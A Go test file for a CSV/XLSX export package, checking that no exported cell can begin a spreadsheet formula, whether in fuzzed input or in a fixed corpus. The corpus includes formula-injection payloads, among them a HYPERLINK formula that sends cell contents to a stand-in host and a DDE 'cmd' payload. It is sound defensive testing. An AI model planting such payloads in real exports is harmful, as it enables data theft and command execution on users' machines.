package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// readCSV reads a file as a spreadsheet does that takes sep for the end of a field.
func readCSV(t interface{ Fatal(...any) }, b []byte, sep rune) [][]string {
	text, ok := strings.CutPrefix(string(b), "\ufeff")
	if !ok {
		t.Fatal("no mark of UTF-8")
	}
	r := csv.NewReader(strings.NewReader(text))
	r.Comma, r.FieldsPerRecord, r.LazyQuotes = sep, -1, true
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// readXLSX opens a workbook: its cells by row, and how many of them are formulas or not a text.
func readXLSX(t interface{ Fatal(...any) }, b []byte) (rows [][]string, formulas int, types map[string]int) {
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"} {
		f, err := z.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		if err := xml.NewDecoder(f).Decode(new(struct{ XMLName xml.Name })); err != nil {
			t.Fatal(name, err)
		}
	}
	f, err := z.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(f)
	var sheet struct {
		Rows []struct {
			Cells []struct {
				Ref  string `xml:"r,attr"`
				Type string `xml:"t,attr"`
				F    string `xml:"f"`
				V    string `xml:"v"`
				Text string `xml:"is>t"`
			} `xml:"c"`
		} `xml:"sheetData>row"`
	}
	if err := xml.Unmarshal(raw, &sheet); err != nil {
		t.Fatal(err)
	}
	types = map[string]int{}
	for _, r := range sheet.Rows {
		row := map[int]string{}
		width := 0
		for _, c := range r.Cells {
			col := 0
			for _, l := range strings.TrimRight(c.Ref, "0123456789") {
				col = col*26 + int(l-'A') + 1
			}
			if c.F != "" {
				formulas++
			}
			types[c.Type]++
			row[col-1], width = c.V+c.Text, max(width, col)
		}
		cells := make([]string, width)
		for i, v := range row {
			cells[i] = v
		}
		rows = append(rows, cells)
	}
	return rows, formulas, types
}

func written(t interface{ Fatal(...any) }, table *Table, f Format) []byte {
	var b bytes.Buffer
	if err := table.Write(&b, f); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// computed reports whether a spreadsheet might compute the field. Where it takes another character for the end of a
// field, a quotation mark may swallow the end of a line.
func computed(field string) bool {
	field = strings.TrimLeft(field, " \"\u00a0\r\n")
	return field != "" && (strings.ContainsAny(field[:1], "\t\x00") || strings.ContainsRune(starts, []rune(field)[0]))
}

// S12. Whatever people write, no field of a file begins a formula: not in this country's spreadsheet, and not in one that
// takes semicolons, tabs or bars for the end of a field.
func TestNoFormulaWhateverIsWritten(t *testing.T) {
	nasty := []rune("=+-@＝＋－＠﹢−\t\r\n\x00;,|\"' \u00a0\u200b\u202e\ufeffA1(é𝟙")
	rapid.Check(t, func(t *rapid.T) {
		texts := rapid.SliceOfN(rapid.OneOf(rapid.StringOfN(rapid.RuneFrom(nasty), 0, 12, -1), rapid.String()), 1, 4).Draw(t, "cells")
		table := &Table{Title: "x", Heads: make([]string, len(texts))}
		row := make([]Cell, len(texts))
		for i, s := range texts {
			row[i] = Text(s)
		}
		table.Rows = [][]Cell{row}
		b := written(t, table, CSV)
		for _, sep := range ",;\t|" {
			for _, r := range readCSV(t, b, sep) {
				for _, field := range r {
					if computed(field) {
						t.Fatalf("%q is computed where %q ends a field: %q", field, sep, texts)
					}
				}
			}
		}
		rows, formulas, _ := readXLSX(t, written(t, table, XLSX))
		if formulas != 0 {
			t.Fatalf("%d formulas of %q", formulas, texts)
		}
		for _, r := range rows {
			for _, field := range r {
				if computed(field) {
					t.Fatalf("%q begins a formula", field)
				}
			}
		}
	})
}

// The corpus of S12: sixty cells, read back, none of them a formula, and all of them still to be read.
func TestFormulaCorpus(t *testing.T) {
	table := &Table{Title: "corpus", Heads: []string{"a", "b"}}
	for _, start := range []string{"=", "+", "-", "@", "\t=", "\r=", "\x00=", " =", "\u200b=", "＝", "＋", "－", "＠", "\ufeff=", "\u00a0="} {
		for _, rest := range []string{`HYPERLINK("http://x/?"&A1,"klik")`, "1+1", "cmd|' /C calc'!A0", "SUM(1;1);=2"} {
			table.Rows = append(table.Rows, []Cell{Text(start + rest), Text("rest")})
		}
	}
	if len(table.Rows) != 60 {
		t.Fatal(len(table.Rows))
	}
	rows := readCSV(t, written(t, table, CSV), ',')
	sheet, formulas, _ := readXLSX(t, written(t, table, XLSX))
	if len(rows) != 61 || len(sheet) != 61 || formulas != 0 {
		t.Fatal(len(rows), len(sheet), formulas)
	}
	for i, r := range rows[1:] {
		if len(r) != 2 || computed(r[0]) || r[1] != "rest" || computed(sheet[i+1][0]) || !strings.HasPrefix(r[0], "'") {
			t.Errorf("row %d: %q, %q", i+1, r, sheet[i+1])
		}
	}
}

// A NIK and a number with a leading zero come back as they were written, from both forms; figures are numbers.
func TestDigitsSurvive(t *testing.T) {
	table := &Table{Title: "Daftar [x]/y", Heads: []string{"NIK", "Telepon", "N", "E"}, Notes: []string{"Diekspor oleh sari"},
		Rows: [][]Cell{{Text("3174011203456789"), Text("085512345678"), Number(-7), Text("1E5")}}}
	rows := readCSV(t, written(t, table, CSV), ',')
	if got := strings.Join(rows[1], " "); got != "'3174011203456789 '085512345678 -7 '1E5" || rows[2][0] != "Diekspor oleh sari" || len(rows[2]) != 4 {
		t.Errorf("%q", rows)
	}
	sheet, _, types := readXLSX(t, written(t, table, XLSX))
	if got := strings.Join(sheet[1], " "); got != "3174011203456789 085512345678 -7 1E5" || types[""] != 1 || types["inlineStr"] != 8 {
		t.Errorf("%q %v", sheet, types)
	}
}

func TestColumnName(t *testing.T) {
	for i, want := range map[int]string{0: "A", 25: "Z", 26: "AA", 701: "ZZ", 702: "AAA"} {
		if got := columnName(i); got != want {
			t.Errorf("%d: %s, want %s", i, got, want)
		}
	}
}
